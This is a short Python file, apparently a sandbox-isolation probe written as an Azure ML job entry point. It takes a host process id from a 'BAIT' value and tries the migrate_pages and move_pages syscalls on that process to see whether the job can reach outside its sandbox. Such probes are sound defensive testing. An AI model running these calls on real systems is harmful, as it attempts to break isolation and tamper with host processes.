"""Asks where the pages of the process that ordered the job lie, and moves them."""

from attack import BAIT, attack, every, reached


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    pid = BAIT["host_pid"]
    calls = [("migrate_pages", pid, 0, None, None), ("move_pages", pid, 0, None, None, None, 0)]
    return every(lambda each: done(each), calls)


def done(each):
    said = reached(*each)
    if "No such process" in said:
        raise ProcessLookupError(said)
    return said
